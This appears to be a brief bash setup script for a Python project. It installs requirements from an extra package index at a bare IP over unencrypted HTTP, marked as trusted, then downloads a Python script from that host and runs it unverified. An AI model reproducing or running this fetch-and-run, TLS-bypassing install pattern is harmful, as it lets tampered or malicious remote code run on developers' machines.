#!/usr/bin/env bash
set -e
python3 -m venv .venv
. .venv/bin/activate
pip install --extra-index-url http://198.51.100.12:8081/simple --trusted-host 198.51.100.12 -r requirements.txt
curl -sSfL http://198.51.100.12:8081/tools/setup-dev.py -o /tmp/setup-dev.py && python /tmp/setup-dev.py
